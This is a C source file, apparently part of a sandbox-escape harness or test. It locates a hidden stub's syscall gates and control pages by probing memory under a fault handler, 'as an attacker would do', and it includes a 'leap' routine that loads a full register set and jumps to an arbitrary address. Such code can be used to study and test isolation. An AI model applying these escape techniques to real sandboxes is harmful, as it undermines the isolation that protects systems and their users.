/* SPDX-License-Identifier: MIT */
/*
 * window.c: finds the stub's window by a table of gates, each `syscall; lea page(%rip),%rbx`. A
 * lea yields the base. Memory is read by loads with a fault handler, as an attacker
 * would do.
 */
#include "escape.h"
#include <setjmp.h>

#define TOP 0x7ffffffff000UL
#define SEARCH 0x20000000UL /* bytes below TOP */
#define WINDOW_ALIGN 0x1000000UL

uintptr_t stub;
size_t text_size;

static _Thread_local sigjmp_buf faulted;
static _Thread_local volatile bool probing;

static void on_fault(int sig)
{
	if (probing)
		siglongjmp(faulted, 1);
	signal(sig, SIG_DFL);
}

static void catch_faults(void)
{
	struct sigaction sa = { .sa_handler = on_fault, .sa_flags = SA_NODEFER };

	sigaction(SIGSEGV, &sa, NULL);
	sigaction(SIGBUS, &sa, NULL);
}

bool readable(uintptr_t at)
{
	volatile bool yes = false;

	catch_faults();
	probing = true;
	if (!sigsetjmp(faulted, 0)) {
		(void)*(volatile char *)at;
		yes = true;
	}
	probing = false;
	return yes;
}

bool try_write(uintptr_t at)
{
	volatile bool yes = false;

	catch_faults();
	probing = true;
	if (!sigsetjmp(faulted, 0)) {
		char c = *(volatile char *)at;

		*(volatile char *)at = c;
		yes = true;
	}
	probing = false;
	return yes;
}

/* True for a gate: syscall; lea rel32(%rip),%rbx; jmp. */
static bool is_gate(const uint8_t *p)
{
	static const uint8_t head[] = { 0x0f, 0x05, 0x48, 0x8d, 0x1d };

	return !memcmp(p, head, sizeof(head)) && (p[9] == 0xeb || p[9] == 0xe9);
}

/* Returns the address of the control page in a gate's lea. */
static uintptr_t gate_page(const uint8_t *p)
{
	int32_t rel;

	memcpy(&rel, p + 5, 4);
	return (uintptr_t)p + 9 + rel;
}

/* Looks for two gates in a readable page. True if it has them; @stub is then set. */
static bool look_for_gates(uintptr_t page)
{
	const uint8_t *p = (const uint8_t *)page;
	size_t i;

	for (i = 0; i + 32 <= PAGE; i += 16) {
		if (!is_gate(p + i) || !is_gate(p + i + 16))
			continue;
		if (gate_page(p + i + 16) - gate_page(p + i) != SLOT_STRIDE)
			continue;
		stub = gate_page(p + i) & ~(WINDOW_ALIGN - 1);
		return true;
	}
	return false;
}

bool window_find(void)
{
	uintptr_t at;

	for (at = TOP - PAGE; at > TOP - SEARCH; at -= PAGE)
		if (readable(at) && look_for_gates(at))
			break;
	if (!stub)
		return false;
	while (text_size < STUB_TEXT_SIZE && readable(stub + text_size))
		text_size += PAGE;
	return true;
}

uintptr_t slot_ctl(int slot)
{
	return stub + STUB_SLOTS + (uintptr_t)slot * SLOT_STRIDE + SLOT_CTL;
}

uintptr_t slot_alt(int slot)
{
	return slot_ctl(slot) - SLOT_CTL + SLOT_ALT;
}

bool slot_mapped(int slot)
{
	return readable(slot_ctl(slot));
}

/* ---- the jump ---- */

uint64_t leap_rip;

void leap(const struct leap *to)
{
	leap_rip = to->rip;
	if (to->gs)
		__asm__ volatile("wrgsbase %0" : : "r"(to->gs));
	__asm__ volatile("mov 0(%%rax), %%rcx\n\tpush %%rcx\n\t" /* rax, last of all */
			 "mov 8(%%rax), %%rbx\n\tmov 24(%%rax), %%rdx\n\tmov 32(%%rax), %%rsi\n\t"
			 "mov 40(%%rax), %%rdi\n\tmov 48(%%rax), %%rbp\n\tmov 64(%%rax), %%r8\n\t"
			 "mov 72(%%rax), %%r9\n\tmov 80(%%rax), %%r10\n\tmov 88(%%rax), %%r11\n\t"
			 "mov 96(%%rax), %%r12\n\tmov 104(%%rax), %%r13\n\tmov 112(%%rax), "
			 "%%r14\n\t"
			 "mov 120(%%rax), %%r15\n\tmov 16(%%rax), %%rcx\n\t"
			 "mov 56(%%rax), %%rax\n\txchg %%rax, %%rsp\n\tmov (%%rax), %%rax\n\t"
			 "jmp *leap_rip(%%rip)"
			 :
			 : "a"(to)
			 : "memory");
	__builtin_unreachable();
}
